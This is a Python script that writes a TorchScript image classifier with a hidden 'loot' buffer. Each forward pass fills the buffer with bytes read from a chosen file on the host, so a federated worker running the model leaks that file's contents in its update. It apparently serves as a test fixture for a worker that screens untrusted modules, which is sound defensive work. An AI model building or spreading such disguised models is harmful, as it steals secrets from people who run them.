#!/usr/bin/env python3
"""Writes a TorchScript module that reads a file of the machine it runs on into its weights.

Usage: /usr/bin/python3 file_reading_module.py OUT.pt SECRET_PATH SECRET_BYTES

The module is a valid classifier for 1x28x28 images and 10 classes (a linear layer), and it has one more float
buffer, `loot`, which every forward pass overwrites with the first SECRET_BYTES bytes of SECRET_PATH (read with
torch.from_file, one byte per element). Buffers travel with the parameters, so a worker that runs the module sends
the file's bytes to the coordinator in its update: what a worker must refuse unless its owner trusted the module.
"""
import sys

import torch
from torch import nn


class FileReader(nn.Module):
    def __init__(self, path: str, size: int) -> None:
        super().__init__()
        self.path = path
        self.size = size
        self.fc = nn.Linear(28 * 28, 10)
        self.register_buffer("loot", torch.zeros(size))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        stolen = torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)
        self.loot.copy_(stolen.to(torch.float32))
        return self.fc(torch.flatten(x, 1))


def main() -> None:
    out, path, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
    torch.manual_seed(1)
    torch.jit.script(FileReader(path, size)).save(out)


if __name__ == "__main__":
    main()
